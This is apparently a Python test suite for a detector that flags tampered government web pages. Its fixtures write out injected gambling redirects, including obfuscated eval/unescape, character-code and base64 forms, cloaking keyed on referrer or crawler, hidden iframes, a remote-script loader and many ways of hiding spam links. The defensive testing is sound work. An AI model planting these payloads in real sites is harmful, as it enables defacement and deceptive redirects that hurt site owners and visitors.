"""What tampered pages do behind their visitors' backs: redirects, codes, frames; and what honest pages do alike."""

import base64
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cleaning.read import read
from cleaning.unwrap import unwrapped
from cleaning.verdict import judge
from tests.cleaning.judged import GOV, gov_page

TEXT = "各乡镇人民政府：为做好清明节期间森林防火工作，现将有关事项通知如下，请认真贯彻执行，严禁携带火种进山，确保信息畅通。"
AWAY = "http://www.q1bet.example/"
SPAM = "".join(
    f"<a href=http://www.q{number}bet.example/>{word}</a>"
    for number, word in enumerate(("澳门新葡京", "百家乐", "时时彩", "真人娱乐", "足球外围", "注册送彩金"))
)


def _escaped(text: str) -> str:
    return "".join(f"%u{ord(one):04x}" if ord(one) > 127 else f"%{ord(one):02x}" for one in text)


def _coded(text: str) -> str:
    return f"String.fromCharCode({','.join(str(ord(one)) for one in text)})"


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(one):02x}" if ord(one) < 256 else f"\\u{ord(one):04x}" for one in text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SENT = f"top.location.href='{AWAY}';"
PUT_IN = "document.write('<script src=http://js.q1bet.example/a.js></'+'script>')"
LURES = {
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "location": f"<script>location.href='{AWAY}'</script>",
    "by referrer": f"<script>if(/baidu|sogou/.test(document.referrer)){{location.href='{AWAY}'}}</script>",
    "by agent": f"<script>if(navigator.userAgent.match(/Baiduspider|Googlebot/i))location.replace('{AWAY}')</script>",
    "joined": "<script>var s='http://ww'+'w.q1b'+'et.example/';window['loc'+'ation']['hr'+'ef']=s;</script>",
    "atob": f"<script>window.location.replace(atob('{_base64(AWAY)}'))</script>",
    "eval unescape": f"<script>eval(unescape('{_escaped(SENT)}'))</script>",
    "eval codes": f"<script>eval({_coded(SENT)})</script>",
    "script put in": f"<script>eval(unescape('{_escaped(PUT_IN)}'))</script>",
    "frame": "<iframe src='http://www.q1bet.example/l.html' width=0 height=0></iframe>",
    "frame by style": "<iframe src='http://www.q1bet.example/l.html' style='display:none'></iframe>",
}  # fmt: skip
HONEST = {
    "own site": "<script>location.href='http://www.linzhou.gov.cn/new/'</script>",
    "another office": "<meta http-equiv=refresh content='0;url=http://www.anyang.gov.cn/'>",
    "mobile": "<script>if(/iPhone|Android/.test(navigator.userAgent)){location.href='http://m.linzhou.gov.cn/'}</script>",
    "a button": "<script>function bank(){location.href='http://www.somebank.example/'}</script>",
    "statistics": "<script>document.write(unescape('%3Cspan id=cnzz%3E%3C/span%3E%3Cscript src=http://s4.cnzz.com/stat.php%3E%3C/script%3E'))</script>",
    "a film": "<iframe src='http://player.somevideo.example/1' width=600 height=400></iframe>",
    "white menu": "<div style='color:#fff'><a href='http://www.somefirm.example/'>技术支持</a></div>",
}
HIDING = {
    "class out of view": ("<style>.xz{position:absolute;left:-9999px}</style>", f"<div class=xz>{SPAM}</div>"),
    "selector with steps": ("<style>.wrap div.xz{display:none}</style>", f"<div class=wrap><div class=xz>{SPAM}</div></div>"),
    "id with tag": ("<style>div#xz{height:0;overflow:hidden}</style>", f"<div id=xz>{SPAM}</div>"),
    "noscript": ("", f"<noscript>{SPAM}</noscript>"),
    "scaled away": ("", f"<div style='transform:scale(0)'>{SPAM}</div>"),
    "moved away": ("", f"<div style='transform:translateX(-9999px)'>{SPAM}</div>"),
    "below the page": ("", f"<div style='position:absolute;bottom:-5000px'>{SPAM}</div>"),
    "nearly clear": ("", f"<div style='opacity:0.01'>{SPAM}</div>"),
    "old filter": ("", f"<div style='filter:alpha(opacity=0)'>{SPAM}</div>"),
    "white on white": ("", f"<font color=#ffffff>{SPAM}</font>"),
    "written from hex": ("", f"<script>document.write('{_hex(SPAM)}')</script>"),
    "written from codes": ("", f"<script>document.write({_coded(SPAM)})</script>"),
    "written, unescaped": ("", f"<script>document.write(unescape('{_escaped(SPAM)}'))</script>"),
    "written, decoded": ("", f"<script>document.write(decodeURIComponent('{quote(SPAM)}'))</script>"),
    "written from base64": ("", f"<script>document.write(decodeURIComponent(escape(atob('{_base64(SPAM)}'))))</script>"),
    "key words": ("<meta name=keywords content='澳门新葡京,百家乐,时时彩,注册送彩金'>", ""),
}  # fmt: skip


def _page(head: str, body: str) -> bytes:
    page = gov_page("关于做好清明节期间森林防火工作的通知", TEXT)
    return (
        page.replace("</head>", f"{head}</head>")
        .replace('<div class="footer">', f'{body}<div class="footer">')
        .encode()
    )


@pytest.mark.parametrize("case", LURES)
def test_a_page_that_leads_away_is_tampered_with(case: str) -> None:
    """It is harmful, with a finding for its owner that names the target."""
    judgement = judge(read(_page(LURES[case], ""), GOV))
    assert judgement.verdict == "harmful"
    assert [one.code for one in judgement.findings] == ["foreign-redirect"]
    assert "q1bet.example" in judgement.findings[0].detail


@pytest.mark.parametrize("case", HONEST)
def test_honest_pages_do_alike(case: str) -> None:
    """Moves within the site and to other offices, buttons, counters and films are no findings."""
    judgement = judge(read(_page(HONEST[case], ""), GOV))
    assert (judgement.verdict, judgement.findings) == ("kept", ())


@pytest.mark.parametrize("case", HIDING)
def test_spam_put_into_a_page_is_found(case: str) -> None:
    """However it is hidden, in style sheets, scripts or not at all; the text of the page itself stays."""
    head, body = HIDING[case]
    page = read(_page(head, body), GOV)
    judgement = judge(page)
    assert judgement.verdict == "harmful"
    assert judgement.findings
    assert page.text == TEXT


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="abc'\"+\\x4u0(),;=%[] \n", max_size=200))
def test_any_script_is_unwrapped(code: str) -> None:
    """Never raises; a script without disguises stays as it is."""
    plain, deep = unwrapped(f"eval{code}")
    assert isinstance(plain, str)
    assert unwrapped("alert(1)") == ("alert(1)", False)
    assert isinstance(deep, bool)
